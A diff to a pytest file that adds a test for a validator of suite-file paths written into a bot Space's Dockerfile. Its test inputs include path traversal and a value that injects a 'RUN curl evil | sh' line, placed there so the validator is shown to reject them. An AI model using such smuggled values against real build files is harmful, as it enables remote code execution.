@@ -7,7 +7,7 @@ from dataclasses import replace
 import pytest
 
 from hub.records import SpaceMachine, SpaceVolume
-from steward.bot_space.deciding import decide_steps
+from steward.bot_space.deciding import decide_steps, suite_file_problems
 from steward.bot_space.facts import SetupFacts, SpaceFacts
 from steward.bot_space.wanted import QUEUE_FOLDER, WantedSpace, bucket_for, expected_host, is_space_id
 
@@ -70,3 +70,21 @@ def test_the_address_follows_from_the_name(name: str, host: str) -> None:
     """As the Hub derives it; a Space that exists says its own."""
     assert is_space_id(name) and expected_host(name) == host
     assert not any(map(is_space_id, ("bot", "a/b/c", "a/-b", "a/b--c", "a/b.git", "a b/c", "a/b.")))
+
+
+@pytest.mark.parametrize(
+    ("path", "codes"),
+    [
+        ("suite.yaml", []),
+        ("suites/next_2.yaml", []),
+        ("/etc/suite.yaml", ["suite-file"]),
+        ("../suite.yaml", ["suite-file"]),
+        ("my suite.yaml", ["suite-name"]),
+        ("a.yaml /\nRUN curl evil | sh\n#.yaml", ["suite-name"]),
+        ("$HOME.yaml", ["suite-name"]),
+        ("suite.yaml\n", ["suite-name"]),
+    ],
+)
+def test_the_name_of_a_suite_file_adds_no_line_to_the_image(path: str, codes: list[str]) -> None:
+    """A board file may come from a stranger, and the Dockerfile of the bot's Space names its suite file."""
+    assert [problem.code for problem in suite_file_problems(path)] == codes
